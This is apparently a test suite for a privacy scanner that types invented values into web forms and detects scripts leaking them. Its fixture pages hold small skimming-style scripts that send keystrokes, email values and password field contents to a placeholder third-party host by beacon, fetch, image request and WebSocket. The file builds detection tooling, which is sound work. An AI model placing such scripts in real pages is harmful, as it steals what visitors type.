"""Invented values typed into forms, key by key: what scripts read of them leaves, and nothing is ever sent."""

from __future__ import annotations

import pytest
from aiohttp import web

from scanner.capture.canaries import Canaries
from scanner.capture.forms import keys_of
from scanner.model.evidence import Request, ScriptCall, Visit
from scanner.model.probes import CanaryPlanted
from tests.capture.conftest import FIRST, THIRD, Look, Records, Scan, Site

pytestmark = pytest.mark.browser


def planted(records: Records) -> dict[str, CanaryPlanted]:
    """The planted values by what they are."""
    return {canary.data: canary for canary in records.of(CanaryPlanted)}


async def test_every_kind_of_field_gets_its_own_value_by_real_keys(site: Site, look: Look) -> None:
    records = await look(
        site.page(
            "<form action=/x><input type=email name=e><input name=first_name><input type=tel name=t>"
            "<label>Your wish <textarea name=wish></textarea></label></form>"
            "<form role=search><input name=q></form>"
            "<script>let trusted = 0;"
            "addEventListener('keydown', e => { if (e.isTrusted && e.key.length === 1) trusted++ });"
            "addEventListener('pagehide', () => navigator.sendBeacon('/keys', String(trusted)))</script>"
        )
    )
    found = planted(records)
    assert set(found) == {"email", "name", "phone", "text", "search"}
    assert all(canary.typed == canary.value for canary in found.values())
    assert found["text"].field == "textarea “Your wish”"
    assert found["email"].frame_url.startswith(f"https://{FIRST}/page-")
    assert site.bodies["/keys"] == str(sum(len(canary.value) for canary in found.values()))


@pytest.mark.parametrize(
    "body",
    [
        "<form><input name=name><input type=password></form>",
        "<form action=/login><input type=email name=email></form>",
        "<form><input name=name><input name=cc-number></form>",
        "<form><input name=name><input type=email><input type=password><input name=card-number></form>",
        "<form id=login><input name=name><input type=email><input type=password></form>",
        "<input name=card_number><input autocomplete=one-time-code><input name=iban>",
        "<input name=filled value=kept><input name=off disabled><input name=fixed readonly>",
        "<input name=trap style='position:absolute;left:-999em'><input name=gone style='display:none'>",
        "<div contenteditable>written before</div><div contenteditable=false style='height:2em'></div>",
        "<form><div contenteditable style='height:2em'></div><input type=password></form>",
        "<input name=honey tabindex=-1><input type=number><input name=age inputmode=numeric><input type=hidden>",
    ],
)
async def test_secrets_payments_and_what_no_visitor_sees_are_left_alone(site: Site, look: Look, body: str) -> None:
    assert planted(await look(site.page(body))) == {}


async def test_who_registers_tells_a_name_and_an_address_but_no_password(site: Site, look: Look) -> None:
    records = await look(
        site.page(
            "<form action=/register><input name=name aria-label=Name><input type=email name=email>"
            "<input type=password name=password><input type=password name=again></form><script>addEventListener("
            "'pagehide', () => navigator.sendBeacon('/secrets', [...document.querySelectorAll('[type=password]')]"
            ".map(one => one.value).join('') || 'none'))</script>"
        )
    )
    assert set(planted(records)) == {"name", "email"}
    assert site.bodies["/secrets"] == "none"


@pytest.mark.parametrize("tag", ["div", "li"])
async def test_an_editor_is_written_in_like_a_field(site: Site, look: Look, tag: str) -> None:
    """Chats and comments are often no field, but an element that the page lets be written in."""
    records = await look(
        site.page(
            f"<{tag} id=chat contenteditable role=textbox data-placeholder='Your message' style='height:3em'>"
            f"<p contenteditable></p></{tag}><script>"
            f"chat.addEventListener('input', () => navigator.sendBeacon('https://{THIRD}/said', chat.innerText))"
            "</script>"
        )
    )
    [found] = records.of(CanaryPlanted)
    assert (found.data, found.field, found.typed) == ("text", "editor “Your message”", found.value)
    said = [request.post_data for request in records.of(Request) if request.url.endswith("/said")]
    assert said[-1] == found.value


async def test_what_is_read_key_by_key_on_leaving_the_field_and_after_a_pause_is_caught(site: Site, look: Look) -> None:
    records = await look(
        site.page(
            "<input type=email id=e><script>"
            f"const to = 'https://{THIRD}';"
            "e.addEventListener('input', () => { new Image().src = to + '/key?v=' + encodeURIComponent(e.value) });"
            "const post = {method: 'POST', mode: 'no-cors'};"
            "e.addEventListener('change', () => fetch(to + '/change', {...post, body: e.value}));"
            "let wait; e.addEventListener('keyup', () => { clearTimeout(wait); wait = setTimeout(() =>"
            " navigator.sendBeacon(to + '/pause', new Blob([JSON.stringify({mail: e.value})])), 800) });"
            "addEventListener('pagehide', () => navigator.sendBeacon(to + '/left', e.value));"
            "</script>"
        )
    )
    value = planted(records)["email"].value
    keys = [request.url for request in records.of(Request) if "/key?" in request.url]
    assert len(keys) == len(value)
    assert keys[-1].endswith(value.replace("@", "%40"))
    assert records.request("/change").post_data == value
    assert records.request("/pause").post_data == f'{{"mail":"{value}"}}'
    assert site.bodies["/left"] == value
    left = [call.detail for call in records.of(ScriptCall) if call.url == f"https://{THIRD}/left"]
    assert left == [value]


async def test_no_form_is_sent_and_no_page_is_left_because_of_what_is_typed(site: Site, look: Look) -> None:
    site.put("/taken", "taken")
    url = site.page(
        "<form action=/taken><input type=email name=a oninput='this.form.requestSubmit()'></form>"
        "<form action=/taken><input name=b oninput='this.form.submit()'></form>"
        "<form action=/taken><input name=f onchange='setTimeout(() => this.form.submit(), 700)'></form>"
        "<input name=c oninput='location = \"/taken\"'><input name=d onblur='this.remove()'>"
    )
    records = await look(url)
    assert len(planted(records)) >= 2
    assert len(records.of(CanaryPlanted)) == 5
    assert not site.asked("/taken")
    assert records.visit.final_url == url


async def test_a_page_that_takes_the_cursor_away_is_not_typed_into(site: Site, look: Look) -> None:
    records = await look(
        site.page("<button id=b onclick='fetch(\"/pressed\")'>Buy</button><input name=n onfocus='b.focus()'>")
    )
    assert planted(records) == {}
    assert not site.asked("/pressed")


async def test_fields_in_shadow_roots_and_in_frames_of_the_site_are_found_and_those_of_others_are_not(
    site: Site, look: Look
) -> None:
    site.put("/own-form", "<!doctype html><input type=email>")
    site.put("/their-form", "<!doctype html><input type=tel name=tel>")
    records = await look(
        site.page(
            f"<div id=h></div><iframe src=/own-form></iframe><iframe src='https://{THIRD}/their-form'></iframe>"
            "<script>h.attachShadow({mode: 'open'}).innerHTML = '<input type=search>'</script>"
        )
    )
    found = planted(records)
    assert set(found) == {"email", "search"}
    assert found["email"].frame_url == f"https://{FIRST}/own-form"


async def test_a_socket_tells_what_was_typed(site: Site, look: Look) -> None:
    async def socket(request: web.BaseRequest) -> web.StreamResponse:
        answer = web.WebSocketResponse()
        await answer.prepare(request)
        async for _ in answer:
            pass
        return answer

    site.call("/socket", socket)
    records = await look(
        site.page(
            f"<input name=wish><script>const s = new WebSocket('wss://{THIRD}/socket');"
            "document.querySelector('input').oninput = e => s.send(JSON.stringify({v: e.target.value}))</script>"
        )
    )
    canary = planted(records)["text"]
    assert f'{{"v":"{canary.value}"}}' in (records.request("/socket").post_data or "")


async def test_one_field_on_several_pages_is_typed_into_once_unless_other_scripts_are_there(
    site: Site, scan: Scan
) -> None:
    header = "<form role=search><input name=q></form>"
    same, other = site.page(header), site.page(header + "<script>window.other = 1</script>")
    first = site.page(f"{header}<a href='{same}'>a</a><a href='{other}'>b</a>")
    records = await scan(first, pages=3, page_urls=(same, other), tabs=1)
    assert [canary.top_url for canary in records.of(CanaryPlanted)] == [first, other]


def test_the_values_are_made_from_the_seed_alone_and_hold_no_space() -> None:
    one, same, other = Canaries("a"), Canaries("a"), Canaries("b")
    assert one.values == same.values
    assert not set(one.values.values()) & set(other.values.values())
    assert one.values["email"].endswith("@example.com")
    assert not any(" " in value for value in one.values.values())


def test_keys_are_those_of_an_american_keyboard() -> None:
    down = [key for key in keys_of("aB3@.") if key["type"] == "keyDown"]
    assert [(key["code"], key["windowsVirtualKeyCode"], key["modifiers"]) for key in down] == [
        ("KeyA", 65, 0),
        ("KeyB", 66, 8),
        ("Digit3", 51, 0),
        ("Digit2", 50, 8),
        ("Period", 190, 0),
    ]


async def test_a_page_that_was_typed_into_can_be_reloaded_and_left(site: Site, scan: Scan) -> None:
    """What keeps the page from going elsewhere binds the page alone."""
    records = await scan(site.page("<form><input type=email name=e></form>"))
    assert len(records.of(CanaryPlanted)) == 1
    assert [(visit.purpose, visit.error) for visit in records.of(Visit)] == [("page", None), ("reload", None)]
